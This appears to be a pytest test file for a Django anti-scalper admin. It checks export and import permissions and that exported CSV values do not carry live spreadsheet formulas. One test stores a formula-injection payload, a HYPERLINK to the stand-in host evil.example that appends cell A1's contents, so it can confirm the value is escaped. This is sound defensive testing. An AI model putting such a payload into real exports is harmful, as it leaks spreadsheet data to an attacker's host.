"""Exports need their own permission and never carry a live spreadsheet formula (13.11)."""

from __future__ import annotations

import pytest
from django.test import Client

from antiscalper import services

pytestmark = pytest.mark.django_db
EXPORT = "/admin/antiscalper/blacklistentry/export/"
FORM = {"format": "0", "resource": "0",
        **{f"blacklistentryresource_{name}": "on" for name in
           ("id", "kind", "value", "reason", "expires_at")}}


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_a_formula_in_a_reason_is_exported_as_text(admin_client):
    services.blacklist_add(kind="ip", value="10.0.0.7",
                           reason='=HYPERLINK("http://evil.example/?"&A1,"click")')
    csv = admin_client.post(EXPORT, FORM).content.decode()
    assert "=HYPERLINK" not in csv.replace("'=HYPERLINK", "")


def test_staff_who_may_view_and_change_the_blacklist_cannot_export_it(make_staff):
    staff = make_staff("antiscalper.view_blacklistentry", "antiscalper.change_blacklistentry")
    services.blacklist_add(kind="ip", value="10.0.0.7")
    response = _client(staff).post(EXPORT, FORM)
    assert response.status_code == 403


def test_the_export_permission_allows_the_export(make_staff):
    staff = make_staff("antiscalper.view_blacklistentry", "antiscalper.export_blacklistentry")
    services.blacklist_add(kind="ip", value="10.0.0.7")
    response = _client(staff).post(EXPORT, FORM)
    assert response.status_code == 200 and "10.0.0.7" in response.content.decode()


def test_importing_needs_the_import_permission(make_staff):
    staff = make_staff("antiscalper.view_blacklistentry", "antiscalper.add_blacklistentry",
                       "antiscalper.change_blacklistentry")
    assert _client(staff).get("/admin/antiscalper/blacklistentry/import/").status_code == 403


@pytest.mark.parametrize("model", ["customer", "order", "payment"])
def test_shop_exports_need_the_export_permission(make_staff, model):
    staff = make_staff(f"shop.view_{model}")
    assert _client(staff).get(f"/admin/shop/{model}/export/").status_code == 403
